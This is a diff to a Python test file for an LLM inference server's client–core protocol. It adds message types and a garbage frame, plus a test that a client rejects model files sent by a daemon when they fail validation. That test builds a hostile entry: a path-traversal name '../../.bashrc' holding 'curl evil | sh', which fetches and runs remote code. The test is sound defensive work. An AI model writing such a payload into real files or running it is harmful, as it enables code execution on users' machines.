@@ -75,6 +75,7 @@ CLIENT_MESSAGES = [
     m.AbortRequests(request_ids=["r1", "r2"]),
     m.UtilityCall(call_id=3, method="sleep", args=[2]),
     m.Goodbye(),
+    m.Heartbeat(),
 ]
 CORE_MESSAGES = [
     m.Ready(
@@ -84,6 +85,8 @@ CORE_MESSAGES = [
         num_kv_blocks=10,
         max_num_batched_tokens=2048,
         core_pid=123,
+        client_timeout_s=5.0,
+        model_files_digest="ab" * 32,
     ),
     m.StartupFailed(error="OutOfMemoryError: no"),
     m.StepOutputs(
@@ -95,6 +98,7 @@ CORE_MESSAGES = [
     m.UtilityReply(call_id=4, error="ValueError: bad level"),
     m.FrameRejected(error="the frame is not msgpack"),
     m.EngineDead(error="worker 0 died"),
+    m.Disconnected(error="silent for 5 s"),
 ]
 TO_WORKER = [
     w.ExecuteModel(
@@ -201,6 +205,8 @@ GARBAGE = {
         }
     ),
     "pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.",
+    # msgspec raises UnicodeDecodeError, not a MsgspecError, for this (found by the fuzz)
+    "invalid utf-8 in a key": b"\x81\xa4typ\xaa\xa3abc",
 }
 
 
@@ -300,3 +306,24 @@ def test_core_answers_every_garbage_frame_and_keeps_serving(llm: LLM) -> None:
     assert llm.get_stats().num_rejected_frames - rejected_before == 2 * len(garbage)
     again = llm.generate(["Hello there"], greedy)[0].outputs[0].token_ids
     assert again == expected
+
+
+def test_a_client_stores_only_the_model_files_it_asked_for(tiny_checkpoints) -> None:
+    """What a daemon sends is checked before a client writes it to disk: the known names
+    (never a path), bytes, the digest its Ready gave."""
+    from zllm.protocol import model_files
+
+    path = tiny_checkpoints["llama"]
+    files = model_files.read_model_files(path, path)
+    digest = model_files.digest(files)
+    assert "tokenizer.json" in files and model_files.is_digest(digest)
+    assert model_files.check(files, digest) is None
+
+    hostile = {**files, "../../.bashrc": b"curl evil | sh"}
+    assert "unexpected file name '../../.bashrc'" in model_files.check(
+        hostile, model_files.digest(hostile)
+    )
+    assert "not bytes" in model_files.check({"config.json": "{}"}, digest)
+    assert "not a mapping" in model_files.check([b"x"], digest)
+    assert "do not match the digest" in model_files.check(files, "0" * 64)
+    assert not model_files.is_digest("../" + digest[3:])
